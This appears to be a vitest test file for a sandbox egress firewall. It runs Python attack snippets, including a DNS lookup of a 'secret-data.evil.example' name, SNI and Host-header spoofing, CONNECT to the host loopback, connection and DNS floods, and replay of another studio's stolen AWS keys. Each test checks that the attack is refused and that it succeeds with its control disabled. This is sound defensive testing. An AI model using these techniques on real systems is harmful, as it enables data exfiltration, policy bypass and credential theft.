import { once } from 'node:events';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eventually } from '../studios/testing/eventually.ts';
import type { EgressRules } from './egress/egress-rules.ts';
import type { NetworkParts } from './network-parts.ts';
import { type EgressGround, openEgressGround, ownAddress } from './testing/egress-ground.ts';
import { noteAttack } from './testing/note-attack.ts';

interface NetworkAttack {
  readonly name: string;
  readonly studio: 'alice' | 'bob';
  /** Python that prints what came of it; `HOST_PORT` is one that listens on this machine. */
  readonly code: string;
  readonly refusal: RegExp;
  /** The control that refuses it, replaced, and what is printed then. */
  readonly without: NetworkParts;
  readonly success: RegExp;
}

const sentence = { english: 'Allowed.', korean: '허용됩니다.' };
const always = () => ({ allowed: true, rule: 'test', sentence });
const anyName: NetworkParts = {
  gate: { readNamed: async (_socket, _wanted, { start }) => ({ first: start ?? Buffer.alloc(0) }) },
};
const anyAddress: NetworkParts = { gate: { isReachable: () => true } };

const attacks: readonly NetworkAttack[] = [
  {
    name: 'asking the resolver for a name that is not allowed',
    studio: 'alice',
    code: "tell(lambda: socket.gethostbyname('secret-data.evil.example'))",
    refusal: /^no such name$/,
    without: { rules: (rules) => withOther(rules, { mayResolve: always }) },
    success: /^100\.64\.0\.\d+$/,
  },
  {
    name: 'a server name (SNI) that lies about its address',
    studio: 'alice',
    code: "tell(lambda: over_tls(connect('allowed.example', 8443), 'other.example'))",
    refusal: /ACCESS_DENIED/,
    without: anyName,
    success: /GET other\.example/,
  },
  {
    name: 'a server name (SNI) that lies inside a tunnel',
    studio: 'alice',
    code: "tell(lambda: over_tls(through('allowed.example:8443')[0], 'other.example'))",
    refusal: /ACCESS_DENIED/,
    without: anyName,
    success: /GET other\.example/,
  },
  {
    name: 'a Host header that lies inside a tunnel',
    studio: 'alice',
    code: `
s, _ = through('allowed.example:8080'); s.sendall(request('evil.example'))
tell(lambda: read(s).split('\\r\\n')[0] + ' ' + str(s.fileno() > 0))`,
    refusal: /egress\/name-mismatch/,
    without: anyName,
    success: /^HTTP\/1\.1 200 OK/,
  },
  {
    name: 'CONNECT to the loopback of the host, where the internet is open',
    studio: 'bob',
    code: "tell(lambda: through('127.0.0.1:HOST_PORT')[1])",
    refusal: /egress\/address-forbidden/,
    without: anyAddress,
    success: /200 Connection established/,
  },
  {
    name: 'an allowed name that stands for the loopback of the host',
    studio: 'bob',
    code: "tell(lambda: through('loopback.example:HOST_PORT')[1])",
    refusal: /egress\/address-forbidden/,
    without: anyAddress,
    success: /200 Connection established/,
  },
  {
    name: 'more connections at once than a studio may have',
    studio: 'bob',
    code: `
held = []
for _ in range(300):
    s = connect('10.0.0.4', 3128); s.settimeout(0.01); held.append(s)
def is_cut(s):
    try: s.recv(1); return True
    except TimeoutError: return False
    except OSError: return True
print('cut off' if sum(map(is_cut, held)) >= 40 else 'all stay open')`,
    refusal: /^cut off$/,
    without: { gate: { limits: { connectionCount: 10_000 } } },
    success: /^all stay open$/,
  },
  {
    name: 'more DNS questions than a resolver answers',
    studio: 'alice',
    code: `
message = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + b'\\3sts\\x09amazonaws\\3com\\0' + struct.pack('>2H', 1, 1)
answered = 0
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(1); s.connect(('10.0.0.2', 53))
    for _ in range(4000):
        s.send(message)
        try: s.recv(512); answered += 1
        except TimeoutError: break
print('all answered' if answered == 4000 else 'left without an answer')`,
    refusal: /^left without an answer$/,
    without: { networks: { dnsRate: { capacity: 1_000_000, refillSeconds: 0.001 } } },
    success: /^all answered$/,
  },
];

describe('an attack on the network', () => {
  let ground: EgressGround;
  let host: Server;
  let hostPort: string;
  beforeAll(async () => {
    ground = await openEgressGround();
    host = createServer((socket) => socket.end('the host')).listen(0, '0.0.0.0');
    await once(host, 'listening');
    hostPort = String((host.address() as AddressInfo).port);
  });
  afterAll(async () => {
    host.close();
    await ground.close();
  });

  async function carryOut(on: EgressGround, { studio, code }: NetworkAttack): Promise<string> {
    return on.python(studio, code.replaceAll('HOST_PORT', hostPort));
  }

  for (const attack of attacks) {
    it(`is refused: ${attack.name}`, async ({ task }) => {
      const seen = await carryOut(ground, attack);
      noteAttack(task, { expected: wordsOf(attack.refusal), seen });
      expect(seen).toMatch(attack.refusal);
    });

    it(`succeeds with its control off: ${attack.name}`, async ({ task }) => {
      const weak = await openEgressGround(attack.without);
      try {
        const seen = await carryOut(weak, attack);
        noteAttack(task, { expected: wordsOf(attack.success), seen });
        expect(seen).toMatch(attack.success);
      } finally {
        await weak.close();
      }
    });
  }

  it.runIf(ownAddress !== undefined)(
    'is refused: this machine’s own address in a network that the domain file opens',
    async ({ task }) => {
      const code = `tell(lambda: through('${ownAddress}:${hostPort}')[1])`;
      const seen = await ground.python('bob', code);
      noteAttack(task, { expected: 'egress/address-forbidden', seen });
      expect(seen).toContain('egress/address-forbidden');
      const weak = await openEgressGround({ gate: { ownAddresses: () => [] } });
      try {
        expect(await weak.python('bob', code)).toContain('200 Connection established');
      } finally {
        await weak.close();
      }
    },
  );
});

describe('what was allowed and is no longer', () => {
  const waiting = `
s = connect('allowed.example', 9418); s.settimeout(8)
try: print('cut off' if s.recv(1) == b'' else 'answered')
except TimeoutError: print('stays open')
except ConnectionResetError: print('cut off')`;

  async function seenAfterTheEnd(parts: NetworkParts): Promise<string> {
    const on = await openEgressGround(parts);
    try {
      const waited = on.python('alice', waiting);
      await eventually(async () =>
        (await on.bench.flowRecords()).map(({ part }) => part),
      ).toContain('start');
      await on.endApproval();
      return await waited;
    } finally {
      await on.close();
    }
  }

  it('is cut off when the approval ends, and stays open where nothing reviews it', async ({
    task,
  }) => {
    const seen = await seenAfterTheEnd({});
    noteAttack(task, { expected: 'cut off', seen });
    expect(seen).toBe('cut off');
    // Rules that go on saying what they said once.
    const forgetful: NetworkParts = { rules: (rules) => withOther(rules, { decide: always }) };
    expect(await seenAfterTheEnd(forgetful)).toBe('stays open');
  });
});

describe('credentials and calls of a studio', () => {
  const whoAmI = `
import boto3
from botocore.exceptions import ClientError
def who():
    try: return boto3.client('sts').get_caller_identity()['Arn']
    except ClientError as error: return error.response['Error']['Code']
tell(who)`;
  const give = `
import boto3
c = boto3.Session().get_credentials(); print(c.access_key, c.secret_key, c.token)`;

  async function stolen(on: EgressGround): Promise<string> {
    const [key = '', secret = '', token = ''] = (await on.python('alice', give)).split(' ');
    return on.python('bob', whoAmI, {
      ...{ AWS_ACCESS_KEY_ID: key, AWS_SECRET_ACCESS_KEY: secret, AWS_SESSION_TOKEN: token },
    });
  }

  it('are refused from another studio, because they are bound to the one', async ({ task }) => {
    const strong = await openEgressGround();
    // Whoever's they are, they pass for Bob's.
    const weak = await openEgressGround({
      credentials: (real) => ({
        async find(accessKeyId, sessionToken) {
          const found = await real.find(accessKeyId, sessionToken);
          const bob = weak.studio('bob').studio;
          return typeof found === 'string' ? found : { ...found, ...bob };
        },
      }),
    });
    try {
      const seen = await stolen(strong);
      noteAttack(task, { expected: 'AccessDenied', seen });
      expect(seen).toBe('AccessDenied');
      expect(await stolen(weak)).toContain('strongroom-research-bob');
    } finally {
      await strong.close();
      await weak.close();
    }
  });

  it('are refused to a disabled person whose programs still run', async ({ task }) => {
    const call = `
import urllib.request, urllib.error
def ask():
    try: return urllib.request.urlopen('https://api.strongroom.internal/v1/studio').status
    except urllib.error.HTTPError as error: return error.code
tell(ask)`;
    const allowed = async () => always();
    const [strong, weak] = [
      await openEgressGround(),
      await openEgressGround({ authorizeCall: allowed }),
    ];
    try {
      expect(await strong.python('alice', call)).toBe('200');
      for (const on of [strong, weak]) on.bench.disable('alice');
      const seen = await strong.python('alice', call);
      noteAttack(task, { expected: '403', seen });
      expect(seen).toBe('403');
      expect(await weak.python('alice', call)).toBe('200');
    } finally {
      await strong.close();
      await weak.close();
    }
  });
});

function wordsOf(pattern: RegExp): string {
  return pattern.source.replace(/[\\^$]/g, '');
}

/** The rules, but for what is given. */
function withOther(rules: EgressRules, other: Partial<EgressRules>): EgressRules {
  return {
    decide: other.decide ?? ((...asked) => rules.decide(...asked)),
    mayResolve: other.mayResolve ?? ((...asked) => rules.mayResolve(...asked)),
    ports: other.ports ?? ((...asked) => rules.ports(...asked)),
  };
}
